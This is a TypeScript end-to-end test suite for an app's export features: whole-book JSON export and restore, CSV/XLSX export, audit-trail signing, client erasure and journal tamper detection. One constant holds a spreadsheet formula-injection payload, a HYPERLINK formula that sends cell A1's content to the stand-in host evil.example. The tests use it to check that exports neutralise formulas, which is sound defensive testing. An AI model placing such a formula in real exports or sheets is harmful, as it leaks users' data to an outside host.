import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { OutScreen } from '../pages/out';
import { faultsOf } from '../support/accessibility';
import { Downloads } from '../support/downloads';
import { Stage } from '../support/stage';

const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"王")';

interface Book {
  rows: Record<string, { id?: string; name?: string; clientId?: string }[]>;
}

const bookIn = (bytes: Buffer): Book => JSON.parse(bytes.toString('utf8'));
const sorted = ({ rows }: Book) =>
  Object.fromEntries(
    Object.entries(rows).map(([table, all]) => [table, all.map((row) => JSON.stringify(row)).sort()]),
  );

/** What leaves the book: exported and made safe, put back, looked through, proved, erased. */
describe('what leaves the book', () => {
  let stage: Stage;
  let downloads: Downloads;
  let out: OutScreen;
  let folder: string;
  let book: Book;

  const openPage = async (page: 'out' | 'trail') => {
    const { surface, language } = await stage.zhibi.openWorkbench(page);
    return new OutScreen(surface, language);
  };

  beforeAll(async () => {
    stage = await Stage.withSampleBook();
    downloads = await Downloads.of(stage.browser);
    folder = await mkdtemp(path.join(tmpdir(), 'zhibi-out-'));
    out = await openPage('out');
  });
  afterAll(async () => {
    await stage?.close();
    await downloads?.end();
    if (folder) await rm(folder, { recursive: true, force: true });
  });

  it('takes the whole book out, and puts it back into an empty one, row by row the same', async () => {
    expect(await faultsOf(out)).toEqual([]);
    const { bytes } = await downloads.during(() => out.takeOut('whole', 'JSON'));
    book = bookIn(bytes);
    const [victim] = book.rows['clients'] ?? [];
    if (!victim) throw new Error('no clients in the file');
    victim.name = EVIL;
    const file = path.join(folder, 'book.json');
    await writeFile(file, JSON.stringify(book));

    const options = await stage.zhibi.openOptions('sample');
    await options.click('button', options.say('sample.remove'));
    await options.shows(options.say('sample.none'));
    await options.close();
    await out.restore(file);
    await out.shows(out.say('out.restored', book.rows['clients']?.length ?? 0));
    const again = await downloads.during(() => out.takeOut('whole', 'JSON'));
    expect(sorted(bookIn(again.bytes))).toEqual(sorted(book));
  });

  it('makes a name that is a formula safe', async () => {
    const { name, bytes } = await downloads.during(() => out.takeOut('book', 'CSV'));
    expect(name).toMatch(/^zhibi-book-.*\.csv$/);
    const csv = bytes.toString('utf8');
    expect(csv.startsWith('\ufeff')).toBe(true);
    expect(csv).toContain(`"'${EVIL.replaceAll('"', '""')}"`);
    const sheet = await downloads.during(() => out.takeOut('book', 'XLSX'));
    expect(Object.keys(unzipSync(new Uint8Array(sheet.bytes)))).toContain('xl/worksheets/sheet1.xml');
  });

  it('notes an export in the trail where that is asked for', async () => {
    await out.click('radio', out.say('out.rule.audited'));
    await downloads.during(() => out.takeOut('book', 'CSV'));
    const trail = await openPage('trail');
    await trail.shows(trail.say('trail.cause.noteExport'));
    await trail.close();
  });

  it('shows an edit with what stood there before', async () => {
    await out.comeToFront();
    await out.chooseClient(out.say('out.which'), 'HYPERLINK');
    await out.write(out.say('out.holdReason'), '诉讼未结');
    await out.click('button', out.say('out.setHold'));
    await out.shows(out.say('out.liftHold'));
    const trail = await openPage('trail');
    await trail.clickOn(await trail.at('.tline summary'));
    const [before, after] = await trail.storyOf(trail.say('trail.field.legalHold'));
    expect(before).toBe(trail.say('trail.nothing'));
    expect(after).toContain('诉讼未结');
    expect(await faultsOf(trail)).toEqual([]);
    await trail.chooseClient(trail.say('trail.client'), 'HYPERLINK');
    await trail.shows(trail.say('trail.cause.restore'));
    expect(await trail.verdict()).toMatch(new RegExp(`^${trail.say('trail.intact', '\\d+', '\\d+')}`));
    await trail.close();
  });

  it('signs the trail so that it can be checked without Zhibi', async () => {
    const trail = await openPage('trail');
    const { bytes } = await downloads.during(() => trail.click('button', trail.say('trail.sign')));
    await trail.close();
    const unpacked = path.join(folder, 'trail');
    await mkdir(unpacked);
    for (const [name, content] of Object.entries(unzipSync(new Uint8Array(bytes))))
      await writeFile(path.join(unpacked, name), content);
    const check = (): Promise<string> =>
      new Promise((resolve) => {
        execFile(process.execPath, [path.join(unpacked, 'verifyTrail.mjs')], (_error, said, wrong) =>
          resolve(said + wrong),
        );
      });
    expect(await check()).toMatch(/^INTACT: /);
    await writeFile(path.join(unpacked, 'trail.csv'), 'x');
    expect(await check()).toContain('NOT INTACT');
  });

  it('erases a client, and no row or part of the journal names him any more', async () => {
    const id = book.rows['clients']?.[0]?.id ?? '';
    await out.comeToFront();
    await out.click('button', out.say('out.liftHold'));
    await out.write(out.say('out.typeName', EVIL), EVIL);
    await out.click('button', out.say('out.eraseGo'));
    await out.until(() => document.querySelector('.outerase') === null);
    const counted = await out.raw(async (db) => {
      const names = [...db.objectStoreNames];
      const rows = await Promise.all(
        names.map(
          (name) =>
            new Promise<unknown[]>((resolve) => {
              const all = db.transaction(name).objectStore(name).getAll();
              all.onsuccess = () => resolve(all.result);
            }),
        ),
      );
      return rows.flat().map((row) => JSON.stringify(row));
    });
    expect(counted.length).toBeGreaterThan(100);
    expect(counted.filter((row) => row.includes(id))).toEqual([]);
    const trail = await openPage('trail');
    await trail.shows(trail.say('trail.cause.erase'));
    expect(await trail.verdict()).toContain(trail.say('trail.intactMeans'));
    await trail.close();
  });

  it('says so where the journal was tampered with', async () => {
    const trail = await openPage('trail');
    await trail.raw(
      (db) =>
        new Promise<void>((resolve, reject) => {
          const writing = db.transaction('journal', 'readwrite');
          const journal = writing.objectStore('journal');
          const entry = journal.get(3);
          entry.onsuccess = () => journal.put({ ...entry.result, cause: 'logContact', n: 99 });
          writing.oncomplete = () => resolve();
          writing.onabort = () => reject(writing.error);
        }),
    );
    expect(await trail.verdict()).toContain(trail.say('trail.broken'));
    await trail.close();
  });
});
